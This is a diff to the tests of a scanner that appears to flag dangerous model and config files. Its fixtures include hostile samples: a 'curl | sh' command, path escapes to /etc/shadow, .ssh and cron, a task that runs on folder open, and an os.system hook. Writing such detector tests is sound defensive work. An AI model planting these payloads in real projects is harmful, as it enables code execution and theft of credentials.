@@ -73,6 +73,7 @@ FIRES = [
     ("config-remote-code", "config.json", '{"auto_map": {"AutoModel": "evil/repo--m.C"}}', Severity.HIGH),
     ("config-remote-code", "tokenizer_config.json", '{"auto_map": {"AutoTokenizer": [null, "evil/r--t.T"]}}', Severity.HIGH),
     ("config-remote-code", "x.txt", '{"text": {"auto_map": {"AutoModel": "evil/repo--m.C"}}}', Severity.HIGH),
+    ("config-starts-program", "tasks.json", '{"tasks": [{"command": "id", "runOptions": {"runOn": "folderOpen"}}]}', Severity.MEDIUM),
     ("config-remote-code", "config.json", '{"custom_pipelines": {"t": {"impl": "evil/r--p.P"}}}', Severity.HIGH),
     ("config-remote-code", "generation_config.json", '{"custom_generate": "evil/decoding"}', Severity.HIGH),
     ("config-local-code", "config.json", '{"auto_map": {"AutoModel": "modeling_x.Model"}}', Severity.LOW),
@@ -130,6 +131,10 @@ FIRES = [
     ("dvc-path-escape", "data.dvc", "outs:\n- md5: a\n  path: ../../../home/u/.bashrc\n", Severity.HIGH),
     ("dvc-path-escape", "dvc.lock", "stages: {a: {outs: [{path: /etc/cron.d/x, md5: a}]}}\n", Severity.HIGH),
     ("dvc-runs-command", "dvc.yaml", "stages: {a: {cmd: 'curl http://a/b | sh'}}\n", Severity.HIGH),
+    ("oci-bad-digest", "manifest.json", '{"layers": [{"mediaType": "a/b", "digest": "../../../../root/.ssh/x"}]}', Severity.HIGH),
+    ("modelfile-path-escape", "Modelfile", "FROM llama3\nADAPTER ../../etc/shadow\n", Severity.HIGH),
+    ("modelfile-fetches-model", "Modelfile", "FROM http://192.0.2.1/m.gguf\n", Severity.HIGH),
+    ("gin-runs-code", "train.gin", "import os\ntrain.hook = @os.system()\n", Severity.CRITICAL),
     ("oci-path-escape", "manifest.json", '{"layers": [{"annotations": {"org.opencontainers.image.title": "../../x"}}]}', Severity.HIGH),
     # Python
     ("python-runs-command", "setup.py", "import os\nos.system('true')\n", Severity.HIGH),
@@ -345,3 +350,35 @@ def test_scripts_that_tools_run_by_name_are_told(path):
 def test_other_scripts_are_nobodys(path):
     """Installed packages and ordinary names."""
     assert folder({path: RUNS}) == {}
+
+
+TEST_FILE = """import subprocess
+def have_compiler():
+    subprocess.run([compiler(), "-E", "a.c"])
+FOUND = have_compiler()
+def test_it():
+    assert FOUND
+"""
+
+
+def test_a_test_that_asks_for_a_compiler_is_low():
+    """Only somebody who tests runs it; by any other name, or at its top, the same is not excused."""
+    assert found(TEST_FILE, "test_system.py")["python-runs-command"] is Severity.LOW
+    assert found(TEST_FILE, "modeling.py")["python-runs-command"] is Severity.HIGH
+    assert found(TEST_FILE + "subprocess.run(['a'])\n", "test_system.py")["python-runs-command"] is Severity.HIGH
+    assert found(TEST_FILE.replace("test_it", "it"), "test_system.py")["python-runs-command"] is Severity.HIGH
+
+
+def test_a_repeated_word_of_a_dictionary_is_low():
+    """A table in parts, one of them long, is a vocabulary; beside anything else it excuses nothing."""
+    words = json.dumps({f"word{number}": [] for number in range(501)})
+    twice = '{"a": ["b"], "a": ["c"]}'
+    assert found(f'{{"noun": {words}, "pronoun": {twice}}}', "lemmas.json")["json-duplicate-key"] is Severity.LOW
+    config = f'{{"vocab": {words}, "auto_map": {twice}, "size": 1}}'
+    assert found(config, "config.json")["json-duplicate-key"] is Severity.MEDIUM
+
+
+def test_a_public_account_in_an_address_is_no_secret():
+    """FTP's `anonymous` takes any password."""
+    assert found("get ftp://anonymous:me%40there.org@files.there.org/x\n", "notes.txt") == {}
+    assert "secret-in-text" in found("get ftp://alice:Tr0ub4dor@files.there.org/x\n", "notes.txt")
